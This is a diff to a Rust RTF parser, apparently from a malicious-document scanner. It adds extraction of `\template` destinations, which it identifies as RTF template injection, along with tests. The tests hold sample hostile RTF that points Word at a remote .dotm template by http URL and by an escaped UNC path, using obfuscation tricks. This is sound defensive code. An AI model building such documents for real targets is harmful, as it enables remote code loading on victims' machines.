@@ -3,7 +3,8 @@
 //! whitespace, control words and `{\*\...}` groups inside the hex, takes
 //! raw bytes from `\bin N`, accepts either case and drops an odd last
 //! nibble; attackers use all of it to hide objects from stricter readers.
-//! Pure: the decoded bytes are never more than the input.
+//! And the attached template (`{\*\template ...}`) Word opens with the
+//! document. Pure: the decoded bytes are never more than the input.
 
 use memchr::memmem;
 
@@ -186,6 +187,75 @@ fn skip_group(b: &[u8], mut at: usize) -> usize {
     at.min(b.len())
 }
 
+/// Most `\template` destinations read from one document.
+const MAX_TEMPLATES: usize = 8;
+
+/// Longest template path kept.
+const MAX_TEMPLATE: usize = 2048;
+
+/// The attached template of each `{\*\template ...}` destination: Word
+/// opens it with the document, from another machine too (RTF template
+/// injection). Its text as Word reads it: `\'hh` escapes and the escaped
+/// `\\`, `\{`, `\}` decoded, other control words and nested groups
+/// skipped.
+pub(crate) fn templates(rtf: &[u8]) -> Vec<String> {
+    let mut out = Vec::new();
+    let finder = memmem::Finder::new(b"\\template");
+    let mut from = 0;
+    while let Some(pos) = finder.find(&rtf[from..]).map(|p| from + p) {
+        let mut at = pos + b"\\template".len();
+        from = at;
+        // A longer control word (`\templatex`) is another word.
+        if rtf.get(at).is_some_and(u8::is_ascii_alphabetic) {
+            continue;
+        }
+        at = skip_delimiter(rtf, at);
+        let mut text = Vec::new();
+        while at < rtf.len() && text.len() < MAX_TEMPLATE {
+            match rtf[at] {
+                b'}' => break,
+                b'{' => at = skip_group(rtf, at),
+                b'\\' => match rtf.get(at + 1) {
+                    Some(&c @ (b'\\' | b'{' | b'}')) => {
+                        text.push(c);
+                        at += 2;
+                    }
+                    Some(b'\'') => {
+                        let hex = rtf.get(at + 2..at + 4).unwrap_or(&[]);
+                        if let [h, l] = hex
+                            && let (Some(h), Some(l)) = (nibble(*h), nibble(*l))
+                        {
+                            text.push(h << 4 | l);
+                        }
+                        at += 4;
+                    }
+                    _ => {
+                        at += 1;
+                        while rtf.get(at).is_some_and(u8::is_ascii_alphabetic) {
+                            at += 1;
+                        }
+                        at = skip_delimiter(rtf, at);
+                    }
+                },
+                b'\r' | b'\n' => at += 1,
+                c => {
+                    text.push(c);
+                    at += 1;
+                }
+            }
+        }
+        from = from.max(at.min(rtf.len()));
+        let text = String::from_utf8_lossy(&text).trim().to_owned();
+        if !text.is_empty() {
+            out.push(text);
+            if out.len() >= MAX_TEMPLATES {
+                break;
+            }
+        }
+    }
+    out
+}
+
 /// How far back from an `\objdata` its `\objclass` is looked for.
 const CLASS_WINDOW: usize = 4096;
 
@@ -248,6 +318,25 @@ mod tests {
         // A \bin past the end takes what is there.
         let (o, _) = objdata(b"{\\rtf1{\\*\\objdata \\bin99999 xy", 10);
         assert_eq!(o[0].data, b"xy");
+    }
+
+    #[test]
+    fn templates_as_word_reads_them() {
+        assert_eq!(
+            templates(b"{\\rtf1{\\*\\template http://203.0.113.7/t.dotm}\\f0 x}"),
+            ["http://203.0.113.7/t.dotm"]
+        );
+        // Escapes, a junk group and a control word inside the path.
+        assert_eq!(
+            templates(
+                b"{\\rtf1{\\*\\template \\'5c\\'5c203.0.113.7{\\*\\junk x}\\\\s\\u0 \\\\t.dotm}}"
+            ),
+            ["\\\\203.0.113.7\\s\\t.dotm"]
+        );
+        assert!(templates(b"{\\rtf1{\\*\\templatex http://x/}{\\*\\template }}").is_empty());
+        // Cut short.
+        assert_eq!(templates(b"{\\*\\template http://h/a"), ["http://h/a"]);
+        assert_eq!(templates(b"{\\*\\template \\"), Vec::<String>::new());
     }
 
     #[test]
